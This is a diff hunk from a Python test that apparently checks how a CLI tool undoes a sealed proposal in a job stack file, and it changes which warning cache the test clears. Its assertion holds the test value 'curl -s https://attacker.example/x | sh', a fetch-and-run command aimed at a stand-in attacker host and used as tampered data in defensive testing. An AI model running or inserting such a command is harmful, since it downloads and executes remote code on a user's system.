@@ -286,7 +286,9 @@ def test_only_a_proposal_this_users_spotctl_sealed_is_ever_undone(project, seale
     else:
         stackfile.proposal_path(path).parent.mkdir(exist_ok=True)
         stackfile.proposal_path(path).write_text(json.dumps({"record": record}) + "\n")
-    stackfile._WARNED.clear()
+    from cli.lifecycle import cachefile
+
+    cachefile._SAID.clear()
     stackfile.update_job(path, "bert-eval", lambda current, written: {"state": "preempted"})  # takes the lock
     after = stackfile.load(ref).job("vit-finetune").command
     assert after == ("curl -s https://attacker.example/x | sh" if sealed else command)
